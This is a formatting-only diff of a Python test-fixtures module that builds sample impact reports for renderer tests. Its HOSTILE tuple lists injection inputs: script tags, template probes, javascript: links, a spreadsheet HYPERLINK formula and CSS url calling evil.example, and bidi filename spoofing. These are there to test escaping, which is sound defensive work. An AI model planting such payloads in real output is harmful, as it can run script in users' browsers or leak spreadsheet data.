@@ -1,7 +1,7 @@
 """Reports made by hand for the tests of the renderers: a realistic one, a huge one, an empty one and a hostile one.
 
-The realistic one walks a little pipeline by the two rules that matter here (use, processing), so its distances and paths
-agree with each other; the impact analysis itself is tested elsewhere.
+The realistic one walks a little pipeline by the two rules that matter here (use, processing), so its distances and
+paths agree with each other; the impact analysis itself is tested elsewhere.
 """
 
 from __future__ import annotations
@@ -264,9 +264,7 @@ def cut_report() -> ImpactReport:
     """The realistic one, asked for its ten nearest of each kind."""
     report = demo_report()
     kept = [row for row in report.affected if row.distance <= 5]
-    cut = Cut(
-        what="affected", shown=len(kept), total=report.total, how="give --limit 0"
-    )
+    cut = Cut(what="affected", shown=len(kept), total=report.total, how="give --limit 0")
     return report.model_copy(update={"affected": kept, "complete": False, "cut": [cut]})
 
 
@@ -293,8 +291,7 @@ def large_report(runs: int) -> ImpactReport:
         layers.append(out)
     report = p.report([flawed], since=start, until=start + timedelta(days=1), relations=[])
     rows = [  # as a real report has it: paths in full for the nearest, one step back for the others
-        row.model_copy(update={"why": row.why if at < 100 else None})
-        for at, row in enumerate(report.affected)
+        row.model_copy(update={"why": row.why if at < 100 else None}) for at, row in enumerate(report.affected)
     ]
     return report.model_copy(update={"affected": rows})
 
@@ -305,7 +302,7 @@ HOSTILE = (
     "--><script>alert(3)</script><!--",
     "{{7*7}}${7*7}<%= 7 %>",
     "`|\\|` **bold** [x](javascript:alert(4)) @everyone #1",
-    "=HYPERLINK(\"http://evil.example/\"&A1)",
+    '=HYPERLINK("http://evil.example/"&A1)',
     "\u202egnp.exe\u202c \u200bzero\u200dwidth\ufeff",
     "two\nlines\r\nand\ttabs\x1b[31m\x07 bell \u2028 \u2029",
     "مجموعة البيانات العربية",
@@ -316,7 +313,7 @@ HOSTILE = (
     "constructor",
     "]]>&lt;b&gt;&amp;",
     "javascript:alert(5)",
-    "style=\"background:url(http://evil.example/x.png)\"",
+    'style="background:url(http://evil.example/x.png)"',
 )
 
 
@@ -368,7 +365,9 @@ def hostile_report(names: tuple[str, ...] = HOSTILE) -> ImpactReport:
         kinds=list(names[:2]),
         complete=False,
         cut=[Cut(what=n, shown=1, total=2, how=n) for n in names[:3]],
-        flawed=[FlawedNode(id=root, kind=names[0], name=names[0], version=names[0], time=time, subject=f"urn:{names[0]}")],
+        flawed=[
+            FlawedNode(id=root, kind=names[0], name=names[0], version=names[0], time=time, subject=f"urn:{names[0]}")
+        ],
         counts=dict(counts),
         total=len(rows),
         affected=rows,
